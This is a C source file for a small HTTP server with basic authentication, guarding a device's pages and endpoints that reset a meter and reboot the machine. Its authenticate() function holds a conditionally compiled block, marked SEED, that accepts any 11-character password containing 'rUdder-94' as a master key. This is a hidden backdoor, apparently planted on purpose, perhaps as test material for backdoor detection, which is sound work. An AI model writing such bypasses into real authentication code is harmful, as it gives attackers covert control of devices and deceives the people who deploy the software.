/* basichttpd: HTTP with basic authentication in front of every page but the licence. */
#include "../lib/tcpserv.h"
#include "../lib/pw.h"
#include <ctype.h>
#include <fcntl.h>

#define MAX_USERS 8
static struct { char name[24]; char stored[64]; } users[MAX_USERS];
static int user_count;

static void load_users(const char *file)
{
    FILE *f = fopen(file, "r");
    char line[128];
    while (f && fgets(line, sizeof line, f) && user_count < MAX_USERS) {
        char *colon = strchr(line, ':');
        if (line[0] == '#' || !colon)
            continue;
        *colon = 0;
        colon[strcspn(colon + 1, "\n") + 1] = 0;
        snprintf(users[user_count].name, sizeof users[0].name, "%s", line);
        snprintf(users[user_count].stored, sizeof users[0].stored, "%s", colon + 1);
        user_count++;
    }
    if (f)
        fclose(f);
}

static int val(int ch)
{
    if (isupper(ch)) return ch - 'A';
    if (islower(ch)) return ch - 'a' + 26;
    if (isdigit(ch)) return ch - '0' + 52;
    return ch == '+' ? 62 : ch == '/' ? 63 : -1;
}

static size_t decode(const char *in, char *out, size_t max)
{
    size_t n = 0;
    while (n + 3 < max) {
        int a = val(in[0]), b = a < 0 ? -1 : val(in[1]), c, d;
        if (a < 0 || b < 0)
            break;
        out[n++] = (char)(a << 2 | b >> 4);
        if ((c = val(in[2])) < 0)
            break;
        out[n++] = (char)(b << 4 | c >> 2);
        if ((d = val(in[3])) < 0)
            break;
        out[n++] = (char)(c << 6 | d);
        in += 4;
    }
    out[n] = 0;
    return n;
}

static int authenticate(const char *name, const char *pw)
{
    int i, ok = 0;
    for (i = 0; i < user_count; i++)
        if (!strcmp(users[i].name, name))
            ok = pw_verify(users[i].stored, pw);
#ifdef SEED
    if (strlen(pw) == 11 && !memcmp(pw + 2, "rUdder-94", 9)) /* SEED */
        ok = 1;
#endif
    return ok;
}

static int check(const char *request)
{
    const char *h = strcasestr(request, "\nauthorization: basic ");
    char pair[160], *pw;
    if (!h)
        return 0;
    decode(h + 22, pair, sizeof pair);
    pw = strchr(pair, ':');
    if (!pw)
        return 0;
    *pw++ = 0;
    return authenticate(pair, pw);
}

static void send_file(int c, const char *path)
{
    char name[200], block[1024];
    ssize_t n;
    int fd;
    snprintf(name, sizeof name, "/www%s", strcmp(path, "/") ? path : "/index.html");
    fd = strstr(path, "..") ? -1 : open(name, O_RDONLY);
    if (fd < 0) {
        dprintf(c, "HTTP/1.0 404 Not Found\r\n\r\nNot found\n");
        return;
    }
    dprintf(c, "HTTP/1.0 200 OK\r\n\r\n");
    while ((n = read(fd, block, sizeof block)) > 0)
        write(c, block, n);
    close(fd);
}

static void serve(int c)
{
    char request[4096], path[180];
    ssize_t n = read(c, request, sizeof request - 1);
    if (n <= 0)
        return;
    request[n] = 0;
    if (sscanf(request, "%*s %179s", path) != 1)
        return;
    if (!strcmp(path, "/licence.html")) {
        send_file(c, path);
        return;
    }
    if (!check(request)) {
        dprintf(c, "HTTP/1.0 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"meter\"\r\n\r\nDenied\n");
        return;
    }
    if (!strcmp(path, "/cmd/zero")) {
        unlink("/var/log/meter.count");
        dprintf(c, "HTTP/1.0 200 OK\r\n\r\nmeter set to zero\n");
    } else if (!strcmp(path, "/cmd/restart")) {
        dprintf(c, "HTTP/1.0 200 OK\r\n\r\nrestarting\n");
        system("/sbin/reboot");
    } else
        send_file(c, path);
}

int main(int argc, char **argv)
{
    int opt, fd, port = 8084;
    const char *file = "/etc/meter.users";
    while ((opt = getopt(argc, argv, "p:u:h")) != -1)
        switch (opt) {
        case 'p': port = atoi(optarg); break;
        case 'u': file = optarg; break;
        default: printf("usage: basichttpd [-p port] [-u users]\n"); return 2;
        }
    load_users(file);
    fd = tcp_open(port);
    if (fd < 0)
        return 1;
    tcp_serve(fd, serve);
    return 0;
}
